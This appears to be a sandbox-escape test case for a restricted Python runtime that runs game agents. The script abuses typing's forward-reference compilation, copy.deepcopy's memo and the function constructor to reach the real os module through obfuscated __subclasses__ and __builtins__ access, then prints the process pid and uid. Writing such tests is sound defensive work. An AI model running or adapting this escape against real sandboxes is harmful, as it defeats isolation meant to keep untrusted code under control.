# category: builtins-recovery
# attack: typing compiles a string annotation into a ForwardRef's code object; copy.deepcopy's memo hands out its slots; type(agent) makes the code a function that walks to os
# marker: PWNED-builtins_forwardref_deepcopy
# expect: ERROR|DONE
# target: runtime
# Every step uses only allowed modules and names: typing.List["..."] compiles any expression
# (unchecked by the runtime's compiler), deepcopy(x, memo) fills the memo with copies of the
# objects' inner dicts, and the function class turns a code object into a callable.
import copy
import typing


def agent(observation, configuration):
    return observation.step % configuration.signs


MARK = "PWNED" + "-builtins_forwardref_deepcopy"
u = chr(95) * 2
EXPR = (
    "[c for c in ()." + u + "class" + u + "." + u + "base" + u + "." + u + "subclasses" + u + "() if c." + u
    + "name" + u + " == 'catch_warnings'][0]()._module." + u + "builtins" + u + "['" + u + "import" + u + "']('os')"
)
try:
    alias = typing.List[EXPR]
    memo = {}
    copy.deepcopy(alias, memo)
    codes = [item for value in list(memo.values()) if isinstance(value, dict) for item in value.values()
             if repr(item).startswith("<code object")]
    print("code objects in the memo:", len(codes))
    real_os = type(agent)(codes[0], {})()
    print(MARK, "real os reached, pid", real_os.getpid(), "uid", real_os.getuid())
except Exception as exc:
    print("forward reference escape failed:", repr(exc))
